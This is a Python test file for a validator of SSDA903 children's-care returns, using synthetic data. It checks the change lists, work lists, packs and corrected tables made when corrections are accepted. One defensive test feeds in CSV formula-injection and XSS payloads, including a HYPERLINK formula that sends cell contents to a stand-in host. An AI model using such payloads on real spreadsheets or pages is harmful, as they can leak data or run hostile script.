"""What leaves when proposals are accepted: the list of changes, the work list, the packs, and the corrected tables."""

from __future__ import annotations

import csv
import datetime
import io
import json
from dataclasses import replace

import pytest

from lac_validator import Return, apply, propose, validate
from lac_validator.engine import ADD, CERTAIN, REMOVE, Proposal
from lac_validator.ingest import InputFile, Intake
from lac_validator.report import Errors, Made, is_pack
from lac_validator.report.changes.corrected import corrected_files, make_corrected
from lac_validator.report.changes.decisions import make_decisions
from lac_validator.report.changes.making import make_changes_csv, make_changes_workbook, make_summary
from lac_validator.report.content.corrections import Correction, accept, work_list
from lac_validator.report.content.keys import ErrorKeys
from lac_validator.sample import SampleReturn, generate
from tests.ingest.forms import as_an_xml_has_them, as_xml
from tests.report.made import AT, book, make, members, rows_of
from tests.texts import texts_of


@pytest.fixture(scope="module")
def sample() -> SampleReturn:
    return generate(120, seed=7)


@pytest.fixture(scope="module")
def correction(sample: SampleReturn) -> Correction:
    """All that leaves no choice is accepted, and the first way of one question with several."""
    intake = Intake()
    intake.add([InputFile(name, data) for name, data in sample.files().items()])
    return accepting(intake.make_return())


def accepting(ret: Return) -> Correction:
    errors = Errors(validate(ret))
    proposals = propose(errors.result).proposals
    chosen = [each for each in proposals if each.ways == 1]
    amendment = next(
        (each for each in proposals if each.ways > 1 and (each.into or each.table).endswith("_last")), None
    )
    return Correction(errors, proposals, accept([*chosen, *filter(None, [amendment])], "Jo Bloggs", AT))


def csv_rows(made: Made) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(made.data.decode("utf-8-sig"), newline="")))


def read_again(files: dict[str, Made], ret: Return, providers: bytes | None = None) -> Return:
    intake = Intake(ret.postcodes)
    for folder, period in (("corrected/", "this year"), ("corrected_last_year/", "last year")):
        given = [InputFile(name, made.data) for name, made in files.items() if name.startswith(folder)]
        if given:
            intake.add(given, period=period)
    return intake.make_return(year=ret.year, authority=ret.authority)


def test_every_proposal_is_a_line_and_those_accepted_say_by_whom_and_when(correction: Correction) -> None:
    rows = csv_rows(make_changes_csv(correction))
    assert len(rows) == len(correction.proposals)
    for row, proposal in zip(rows, correction.proposals, strict=True):
        file, line = correction.errors.ret.where_in_file(proposal.table, proposal.row)
        assert (row["Child"], row["Column"], row["Because"]) == (proposal.child, proposal.column, proposal.because)
        assert (row["File"], row["Line"]) == (file, str(line))
        accepted = proposal.decision in correction.accepted
        assert (row["Accepted"], row["Accepted by"], row["When"]) == (
            ("yes", "Jo Bloggs", "2026-06-01T09:30:00") if accepted else ("", "", "")
        )
        assert (row["Errors cleared"] != "") == accepted
    assert {row["Change in"] for row in rows} == {"the system", "last year's return"}


def test_each_error_that_is_gone_counts_at_one_change_of_its_child(correction: Correction) -> None:
    rows = csv_rows(make_changes_csv(correction))
    counted = sum(int(row["Errors cleared"] or 0) for row in rows)
    assert 0.9 * len(correction.after.cleared) <= counted <= len(correction.after.cleared)
    one = next(each for each in correction.chosen if each.kind == CERTAIN and "167" in each.rules)
    alone = Correction(correction.errors, correction.proposals, accept([one], "", AT))
    assert [row["Errors cleared"] for row in csv_rows(make_changes_csv(alone)) if row["Accepted"]] == [
        str(len(alone.after.cleared))
    ]


def test_the_summary_counts_what_the_rules_say(correction: Correction) -> None:
    told = json.loads(make_summary(correction).data)
    again = validate(apply(correction.errors.ret, correction.chosen))
    assert told == {
        "proposed": len(correction.proposals),
        "accepted": len(correction.chosen),
        "errors_before": len(correction.errors),
        "errors_after": again.count,
        "cleared": len(correction.after.cleared),
        "new": len(correction.after.new),
    }
    assert told["errors_before"] - told["cleared"] + told["new"] == told["errors_after"]


def test_the_work_list_is_by_team_and_worker_and_leaves_out_last_years_return(correction: Correction) -> None:
    children = sorted({each.child.upper() for each in correction.chosen})
    allocation = {
        child: {"worker": f"Worker {number % 3}", "team": f"Team {number % 2}", "email": ""}
        for number, child in enumerate(children[:-2])
    }
    workbook = book(make_changes_workbook(correction, allocation=allocation, at=AT).data)
    assert workbook.sheetnames == ["To change in the system", "By worker", "Accepted", "Not accepted"]
    rows = rows_of(workbook["To change in the system"], "Social worker")
    listed = work_list(correction, allocation)
    assert len(rows) == len(listed) < len(correction.chosen)
    teams = [row["Team"] for row in rows if row["Team"]]
    assert teams == sorted(teams)
    for row in rows:
        known = allocation.get(row["Child"].upper())
        assert known is None or (row["Social worker"], row["Team"]) == (known["worker"], known["team"])
    by_worker = rows_of(workbook["By worker"], "Team")
    assert sum(row["Changes"] for row in by_worker) == len(rows)
    assert len(rows_of(workbook["Accepted"], "Child")) == len(correction.chosen)
    assert len(rows_of(workbook["Not accepted"], "Child")) == len(correction.proposals) - len(correction.chosen)


def test_packs_ask_to_change_and_no_longer_ask_about_what_that_clears(correction: Correction) -> None:
    plain, asking = (
        members(make("packs", correction.errors, at=AT, **options).data) for options in ({}, {"correction": correction})
    )
    checks, changes, pages = [], [], ""
    for name, data in asking.items():
        assert is_pack(name, data)
        if name.startswith("packs/") and name.endswith(".xlsx"):
            workbook = book(data)
            checks += rows_of(workbook["To check"], "Child") if workbook["To check"].max_row > 6 else []
            if "To change" in workbook.sheetnames:
                changes += rows_of(workbook["To change"], "Child")
        if name.endswith(".html"):
            pages += data.decode()
    to_change = work_list(correction)
    assert sorted((each.proposal.child, each.new) for each in to_change) == sorted(
        (row["Child"], row["As it should be"] or "") for row in changes
    )
    errors = correction.errors
    keys, cleared = ErrorKeys(errors), correction.after.cleared
    left = [each for each in errors if (errors[each].rule.code, errors[each].table, errors[each].row) not in cleared]
    assert {key for row in checks for key in str(row["Reference"]).split()} == {str(keys.of(each)) for each in left}
    assert "Please change in the system" in pages and "Please change in the system" not in str(plain)


def test_the_corrected_tables_are_as_read_but_for_the_changes(correction: Correction, sample: SampleReturn) -> None:
    files = corrected_files(correction)
    assert {name.split("/")[0] for name in files} == {"corrected", "corrected_last_year"}
    read = read_again(files, correction.errors.ret)
    before, after, expected = (texts_of(each) for each in (correction.errors.ret, read, correction.after.ret))
    named = {(each.table, each.row, each.column): each.new for each in correction.chosen if each.column}
    removed = {(each.table, each.row) for each in correction.chosen if each.action == REMOVE}
    added = {each.into for each in correction.chosen if each.action == ADD}
    for name, columns in before.items():
        for column, values in columns.items():
            if name == "Providers" or column in ("PL_LA", "PL_LOCATION", "PL_DISTANCE", "UASC"):
                continue
            kept = [
                named.get((name, row, column), text) for row, text in enumerate(values) if (name, row) not in removed
            ]
            assert after[name][column] == expected[name][column]
            assert after[name][column][: len(kept)] == kept
            assert name in added or len(after[name][column]) == len(kept)
    assert not any(name.startswith("corrected_last_year") for name in corrected_files(of_this_year(correction)))


def of_this_year(correction: Correction) -> Correction:
    chosen = [each for each in correction.chosen if each.ways == 1 and not (each.into or each.table).endswith("_last")]
    return Correction(correction.errors, correction.proposals, accept(chosen, "", AT))


def test_the_corrected_tables_give_the_errors_that_were_told(correction: Correction, sample: SampleReturn) -> None:
    intake = Intake(correction.errors.ret.postcodes)
    for last_year, period in ((False, "this year"), (True, "last year")):
        made = make_corrected(correction, last_year=last_year, at=AT)
        assert made.name == f"903-corrected{'-last-year' * last_year}-2025-26.zip"
        intake.add([InputFile(made.name, made.data)], period=period)
    intake.add([InputFile(name, data) for name, data in sample.files().items() if name.startswith("providers")])
    ret = intake.make_return(year=correction.errors.ret.year, authority=correction.errors.ret.authority)
    assert validate(ret).count == len(correction.after.after)


def test_xml_comes_back_as_one_xml(sample: SampleReturn) -> None:
    intake = Intake()
    intake.add(
        [
            InputFile("this_year.xml", as_xml(as_an_xml_has_them(sample.this_year))),
            InputFile("last_year.xml", as_xml(as_an_xml_has_them(sample.last_year))),
        ]
    )
    correction = accepting(intake.make_return(authority=sample.authority))
    assert {each.table for each in correction.chosen} > {"Header", "Episodes"}
    files = corrected_files(correction)
    assert set(files) == {"corrected/SSDA903.xml", "corrected_last_year/SSDA903.xml"}
    read = read_again(files, correction.errors.ret)
    assert read.file_format == "xml"
    expected, found = texts_of(correction.after.ret), texts_of(read)
    for name, columns in expected.items():
        assert sorted(zip(*columns.values(), strict=True)) == sorted(zip(*found[name].values(), strict=True))
    assert validate(read).count == len(correction.after.after)
    assert make_corrected(correction).data == files["corrected/SSDA903.xml"].data
    unchanged = Correction(correction.errors, correction.proposals, {})
    read = read_again(corrected_files(unchanged), correction.errors.ret)
    this_year = {name: columns for name, columns in texts_of(correction.errors.ret).items() if "_last" not in name}
    assert texts_of(read) == this_year


def test_an_xml_holds_one_date_of_birth_of_a_child() -> None:
    """What stands in the HEADER stands once: a change of it changes what every table holds of the child."""
    child = (
        "<CHILD><HEADER><CHILDID>A1</CHILDID><SEX>M</SEX><DOB>01/02/2012</DOB><UASC>1</UASC><DUC>01/02/2030</DUC>"
        "<AREVIEW><REVIEW>01/06/2025</REVIEW><REVIEW_CODE>PN1</REVIEW_CODE></AREVIEW></HEADER>"
        "<EPISODE><DECOM>01/05/2025</DECOM></EPISODE></CHILD>"
    )
    intake = Intake()
    intake.add([InputFile("a.xml", f"<EXPSSDA903>{child}</EXPSSDA903>".encode())])
    errors = Errors(validate(intake.make_return(year=2026, authority="E08000003")))
    fix = propose(errors.result).attempts[0].definition
    born = Proposal(fix, "change", CERTAIN, "Header", 0, "A1", "DOB", "01/02/2012", "02/02/2012", "", ("203",), "q")
    correction = Correction(errors, [born], accept([born], "", AT))
    tables = correction.after.ret.tables
    assert {tables[name].DOB.as_given[0] for name in ("Header", "Reviews", "UASC")} == {"02/02/2012"}
    assert {code for code, _, _ in correction.after.new} & {"INT11", "INT12", "INT13", "INT14"} == set()
    read = read_again(corrected_files(correction), errors.ret)
    assert texts_of(read) == texts_of(correction.after.ret)


HOSTILE = ('=HYPERLINK("http://x/?"&A1)', "<script>alert(1)</script>", "@SUM(1)", "a\r\n=1+1", "]]>&amp;", "\x00\x1b")


def test_no_text_of_a_file_becomes_a_formula_or_markup() -> None:
    children = [f"{text}{number}" for number, text in enumerate(HOSTILE)]
    columns = {"CHILD": children, "HOME_POST": ["MI 1AE"] * len(children), "PL_POST": ["M1 1AE"] * len(children)}
    ret = Return.from_columns({"Episodes": columns}, year=2026, authority="E08000003")
    errors = Errors(validate(ret))
    proposals = propose(errors.result).proposals
    correction = Correction(errors, proposals, accept(proposals, "=1+1", AT))
    assert len(correction.chosen) == len(children)
    for row in csv_rows(make_changes_csv(correction)):
        assert not any(cell.startswith(("=", "@", "+", "\r", "\t")) for cell in row.values())
    sheets = book(make_changes_workbook(correction, at=AT).data)
    assert not any(cell.data_type == "f" for sheet in sheets for row in sheet.iter_rows() for cell in row)
    files = corrected_files(correction)
    assert "'=HYPERLINK" in files["corrected/Episodes.csv"].data.decode()
    assert b"corrected/Episodes.csv, line 2, column CHILD" in files["corrected/read me first.txt"].data
    pages = [
        data for name, data in members(make("packs", errors, correction=correction).data).items() if "html" in name
    ]
    assert pages and not any(b"<script>alert" in page for page in pages)
    assert json.loads(make_decisions(correction).data)["decisions"][0]["changes"][0]["child"] == children[0].strip()


def test_what_cannot_be_accepted_is_refused(correction: Correction) -> None:
    question = next(each for each in correction.proposals if each.ways > 1)
    ways = [each for each in correction.proposals if each.question == question.question]
    with pytest.raises(ValueError, match="only one can be accepted"):
        Correction(correction.errors, correction.proposals, accept(ways, "", AT))
    with pytest.raises(ValueError, match="accepted that is not proposed"):
        Correction(correction.errors, [], accept([replace(question, question="other")], "", datetime.datetime.now()))
